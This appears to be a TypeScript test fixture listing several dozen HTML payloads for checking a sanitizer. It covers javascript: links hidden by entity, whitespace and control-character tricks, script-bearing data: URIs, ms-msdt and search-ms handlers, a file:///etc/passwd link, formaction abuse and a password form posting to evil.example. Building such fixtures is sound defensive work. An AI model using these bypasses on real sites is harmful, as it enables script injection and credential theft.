import type { HostilePayload } from './types';

/** Addresses that run something, and addresses that are not what they seem. */
export const addressPayloads: readonly HostilePayload[] = [
  { name: 'link to a script', html: '<a href="javascript:window.__xss=1">x</a>' },
  { name: 'link to a script in mixed case', html: '<a href="JaVaScRiPt:window.__xss=1">x</a>' },
  { name: 'link to a script after spaces', html: '<a href="   javascript:window.__xss=1">x</a>' },
  {
    name: 'link to a script after control characters',
    html: '<a href="\u0001\u0002\u001fjavascript:window.__xss=1">x</a>',
  },
  { name: 'link to a script after a byte order mark', html: '<a href="\ufeffjavascript:window.__xss=1">x</a>' },
  { name: 'link to a script after a wide space', html: '<a href="\u3000javascript:window.__xss=1">x</a>' },
  { name: 'link to a script with a tab in it', html: '<a href="java\tscript:window.__xss=1">x</a>' },
  { name: 'link to a script with a newline in it', html: '<a href="java\nscript:window.__xss=1">x</a>' },
  { name: 'link to a script with a return in it', html: '<a href="java\rscript:window.__xss=1">x</a>' },
  { name: 'link to a script with an escaped tab', html: '<a href="jav&#x09;ascript:window.__xss=1">x</a>' },
  { name: 'link to a script with an escaped newline', html: '<a href="jav&NewLine;ascript:window.__xss=1">x</a>' },
  { name: 'link to a script with a named colon', html: '<a href="javascript&colon;window.__xss=1">x</a>' },
  {
    name: 'link to a script in decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  },
  {
    name: 'link to a script in hexadecimal entities without ends',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">x</a>',
  },
  { name: 'link to a script with a null byte', html: '<a href="java\u0000script:window.__xss=1">x</a>' },
  { name: 'link to a script with an escaped null byte', html: '<a href="java&#0;script:window.__xss=1">x</a>' },
  { name: 'link to a script with a soft hyphen', html: '<a href="java\u00adscript:window.__xss=1">x</a>' },
  { name: 'link to a script with a comment', html: '<a href="javascript://example.com/%0awindow.__xss=1">x</a>' },
  {
    name: 'link to a script that looks like a site',
    html: '<a href="javascript://example.com/?%0dwindow.__xss=1//https://example.com">x</a>',
  },
  { name: 'link to a script in percent escapes', html: '<a href="%6aavascript:window.__xss=1">x</a>' },
  { name: 'link to a script of another language', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'link to a live script', html: '<a href="livescript:window.__xss=1">x</a>' },
  { name: 'link to a script in a view of source', html: '<a href="view-source:javascript:window.__xss=1">x</a>' },
  { name: 'link to a script in a feed', html: '<a href="feed:javascript:window.__xss=1">x</a>' },
  { name: 'link to a script in a jar', html: '<a href="jar:javascript:window.__xss=1!/">x</a>' },
  { name: 'link to html data', html: '<a href="data:text/html,<script>window.__xss=1</script>">x</a>' },
  {
    name: 'link to html data in base64',
    html: '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'link to svg data', html: '<a href="data:image/svg+xml,<svg onload=\'window.__xss=1\'/>">x</a>' },
  { name: 'link to data without a type', html: '<a href="data:,window.__xss=1">x</a>' },
  { name: 'link to a blob', html: '<a href="blob:https://evil.example/1">x</a>' },
  { name: 'link to a file', html: '<a href="file:///etc/passwd">x</a>' },
  { name: 'link to another program', html: '<a href="ms-msdt:/id PCWDiagnostic">x</a>' },
  { name: 'link to an inner file system', html: '<a href="filesystem:http://localhost/temporary/x.html">x</a>' },
  {
    name: 'link with a script as its target',
    html: '<a href="https://example.com" target="javascript:window.__xss=1">x</a>',
  },
  {
    name: 'link that takes over its opener',
    html: '<a href="https://evil.example" target="_blank" rel="opener">x</a>',
  },
  { name: 'link that pings', html: '<a href="https://example.com" ping="https://evil.example/track">x</a>' },
  { name: 'link that downloads', html: '<a href="/x" download="x.exe">x</a>' },
  { name: 'link with two addresses', html: '<a href="https://example.com" href="javascript:window.__xss=1">x</a>' },
  { name: 'link with an unquoted address', html: '<a href=javascript:window.__xss=1>x</a>' },
  { name: 'link with an address in backquotes', html: '<a href=`javascript:window.__xss=1`>x</a>' },
  { name: 'link in a namespace', html: '<a xlink:href="javascript:window.__xss=1">x</a>' },
  { name: 'link that hides behind a fragment', html: '<a href="#" onclick="window.__xss=1">x</a>' },
  { name: 'link to a fragment of markup', html: '<a href="#&quot;><img src=x onerror=window.__xss=1>">x</a>' },
  { name: 'link without a host', html: '<a href="////evil.example">x</a>' },
  { name: 'link with backslashes', html: '<a href="\\\\evil.example">x</a><a href="/\\evil.example">y</a>' },
  { name: 'link with a tab for a host', html: '<a href="/\t/evil.example">x</a>' },
  {
    name: 'link map',
    html: '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:window.__xss=1"></map><img usemap="#m" src=x>',
  },
  { name: 'image of a script', html: '<img src="javascript:window.__xss=1">' },
  { name: 'image of a script in a source set', html: '<img src=x srcset="javascript:window.__xss=1 1x">' },
  {
    name: 'image of svg data',
    html: "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>\">",
  },
  {
    name: 'image of svg data in base64',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+">',
  },
  { name: 'image of html data', html: '<img src="data:text/html,<script>window.__xss=1</script>">' },
  {
    name: 'image data with a trick behind its type',
    html: '<img src="data:image/png;base64,AAAA,text/html;<script>window.__xss=1</script>">',
  },
  {
    name: 'image with an old address',
    html: '<img dynsrc="javascript:window.__xss=1" lowsrc="javascript:window.__xss=1">',
  },
  { name: 'image with a long description', html: '<img src=x longdesc="javascript:window.__xss=1">' },
  { name: 'image of another program', html: '<img src="search-ms:query=x">' },
  {
    name: 'form with a script for its action',
    html: '<form action="javascript:window.__xss=1"><input type=submit autofocus></form>',
  },
  {
    name: 'form elsewhere for a password',
    html: '<form action="https://evil.example/"><input name=password type=password><button>登录</button></form>',
  },
  {
    name: 'button with an action of its own',
    html: '<form><button formaction="javascript:window.__xss=1">x</button></form>',
  },
  {
    name: 'button of a form elsewhere',
    html: '<button form=f formaction="javascript:window.__xss=1">x</button><form id=f></form>',
  },
  {
    name: 'image button with an action',
    html: '<form><input type=image src=x formaction="javascript:window.__xss=1"></form>',
  },
  {
    name: 'field that submits',
    html: '<form action="javascript:window.__xss=1"><input type="submit" value="x"></form>',
  },
  {
    name: 'quote with an address',
    html: '<blockquote cite="javascript:window.__xss=1">x</blockquote><q cite="javascript:window.__xss=1">y</q>',
  },
  {
    name: 'deletion with an address',
    html: '<del cite="javascript:window.__xss=1">x</del><ins cite="javascript:window.__xss=1">y</ins>',
  },
  {
    name: 'table with an address',
    html: '<table background="javascript:window.__xss=1"><tbody background="javascript:window.__xss=1"><tr background="javascript:window.__xss=1"><td>x</td></tr></tbody></table>',
  },
  {
    name: 'link to math by an old attribute',
    html: '<a action="javascript:window.__xss=1" folder="javascript:window.__xss=1" data="javascript:window.__xss=1">x</a>',
  },
];
